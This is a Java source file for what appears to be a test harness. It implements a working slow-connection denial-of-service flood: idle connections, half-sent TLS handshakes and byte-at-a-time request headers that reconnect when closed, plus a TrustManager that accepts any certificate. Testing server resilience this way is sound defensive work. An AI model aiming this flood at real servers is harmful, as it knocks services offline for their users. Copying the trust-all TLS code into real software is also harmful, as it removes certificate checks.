package io.musicassistant.alexa.dev;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * A slow-connection flood from one address, as an attacker would aim it at a server facing the
 * internet: connections opened and left idle, TLS handshakes begun and never finished (half a
 * ClientHello), and connections whose request header arrives one byte a second (after a real TLS
 * handshake when the target speaks TLS). A connection the server closes is opened again after a
 * pause, so the flood keeps its size for as long as it runs.
 *
 * <p>One virtual thread per connection: a thousand of them cost a few megabytes and no CPU while
 * they wait, so the flood fits beside the server on a small machine.
 */
public final class SlowConnectionFlood implements AutoCloseable {

    /** What each connection of the flood does; the flood cycles through them. */
    public enum Kind {
        IDLE,
        HALF_OPEN_TLS,
        SLOW_HEADER
    }

    private final InetSocketAddress target;
    private final InetAddress from;
    private final boolean tls;
    private final Duration reconnectPause;
    private final Duration byteInterval;
    private final byte[] halfHello;
    private final SSLContext attacker;
    private final Set<Socket> sockets = ConcurrentHashMap.newKeySet();
    private final List<Thread> threads = new ArrayList<>();
    private final AtomicInteger open = new AtomicInteger();
    private final LongAdder connected = new LongAdder();
    private final LongAdder failed = new LongAdder();
    private volatile boolean running = true;

    private SlowConnectionFlood(
            InetSocketAddress target, InetAddress from, boolean tls, Duration reconnectPause, Duration byteInterval) {
        this.target = target;
        this.from = from;
        this.tls = tls;
        this.reconnectPause = reconnectPause;
        this.byteInterval = byteInterval;
        this.attacker = trustingAnything();
        this.halfHello = tls ? halfClientHello(attacker, target) : new byte[0];
    }

    /**
     * Starts {@code connections} connections to {@code target} from the local address {@code from}
     * (on Linux any 127.x.y.z address is the loopback interface, so a test can attack from
     * 127.0.0.2 while a legitimate client uses 127.0.0.1).
     */
    public static SlowConnectionFlood start(
            InetSocketAddress target, InetAddress from, boolean tls, int connections, Duration reconnectPause) {
        SlowConnectionFlood flood = new SlowConnectionFlood(target, from, tls, reconnectPause, Duration.ofSeconds(1));
        Kind[] kinds = Kind.values();
        for (int i = 0; i < connections; i++) {
            Kind kind = kinds[i % kinds.length];
            flood.threads.add(Thread.ofVirtual()
                    .name("flood-" + kind.name().toLowerCase() + "-" + i)
                    .start(() -> flood.keep(kind)));
        }
        return flood;
    }

    /** Connections of the flood open right now (connected and not yet closed by the server). */
    public int open() {
        return open.get();
    }

    /** Connections made so far, counting each reconnection. */
    public long connected() {
        return connected.sum();
    }

    /** Connection attempts that failed (refused, reset during the TLS handshake, timed out). */
    public long failed() {
        return failed.sum();
    }

    private void keep(Kind kind) {
        // Spread the first connections over a second, as a flood tool ramps up.
        pause(Duration.ofMillis(ThreadLocalRandom.current().nextInt(1000)));
        while (running) {
            Socket socket = new Socket();
            sockets.add(socket);
            try (socket) {
                socket.bind(new InetSocketAddress(from, 0));
                socket.connect(target, 5000);
                connected.increment();
                open.incrementAndGet();
                try {
                    hold(kind, socket);
                } finally {
                    open.decrementAndGet();
                }
            } catch (IOException e) {
                if (running) {
                    failed.increment();
                }
            } finally {
                sockets.remove(socket);
            }
            pause(reconnectPause.plusMillis(
                    ThreadLocalRandom.current().nextLong(Math.max(1, reconnectPause.toMillis() / 4))));
        }
    }

    /** Holds one connection open the way {@code kind} does until the server closes it. */
    private void hold(Kind kind, Socket socket) throws IOException {
        switch (kind) {
            case IDLE -> awaitClose(socket);
            case HALF_OPEN_TLS -> {
                if (tls) {
                    socket.getOutputStream().write(halfHello);
                    socket.getOutputStream().flush();
                }
                awaitClose(socket);
            }
            case SLOW_HEADER -> {
                Socket channel = socket;
                if (tls) {
                    SSLSocket secure = (SSLSocket) attacker.getSocketFactory()
                            .createSocket(socket, target.getHostString(), target.getPort(), true);
                    secure.setSoTimeout(30_000);
                    secure.startHandshake();
                    channel = secure;
                }
                dribble(channel.getOutputStream());
            }
        }
    }

    /** A request header that never ends, one byte at a time. */
    private void dribble(OutputStream out) throws IOException {
        byte[] start = ("GET /stream/v1/AAAA?exp=1&sig=x HTTP/1.1\r\nHost: " + target.getHostString() + "\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        for (long i = 0; running; i++) {
            byte next =
                    i < start.length ? start[(int) i] : (byte) "X-Slow: a\r\n".charAt((int) ((i - start.length) % 11));
            out.write(next);
            out.flush();
            pause(byteInterval);
        }
    }

    private static void awaitClose(Socket socket) throws IOException {
        InputStream in = socket.getInputStream();
        byte[] sink = new byte[4096];
        while (in.read(sink) >= 0) {
            // whatever the server sends (a TLS alert, an error page), the connection stays until it closes
        }
    }

    private void pause(Duration duration) {
        try {
            Thread.sleep(duration);
        } catch (InterruptedException e) {
            running = false;
        }
    }

    /** The first half of a real ClientHello: enough for the server to start the handshake and wait for the rest. */
    private static byte[] halfClientHello(SSLContext context, InetSocketAddress target) {
        try {
            SSLEngine engine = context.createSSLEngine(target.getHostString(), target.getPort());
            engine.setUseClientMode(true);
            engine.beginHandshake();
            ByteBuffer out = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
            engine.wrap(ByteBuffer.allocate(0), out);
            out.flip();
            byte[] hello = new byte[out.remaining()];
            out.get(hello);
            return Arrays.copyOf(hello, hello.length / 2);
        } catch (IOException e) {
            throw new IllegalStateException("cannot make a ClientHello", e);
        }
    }

    /** The attacker checks no certificate: it only wants to hold the connection. */
    private static SSLContext trustingAnything() {
        TrustManager anything = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String authType) {}

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String authType) {}

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {anything}, null);
            return context;
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    @Override
    public void close() {
        running = false;
        for (Socket socket : sockets) {
            try {
                socket.close();
            } catch (IOException ignored) {
                // closing anyway
            }
        }
        for (Thread thread : threads) {
            thread.interrupt();
        }
        for (Thread thread : threads) {
            try {
                thread.join(Duration.ofSeconds(5));
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
        }
    }
}
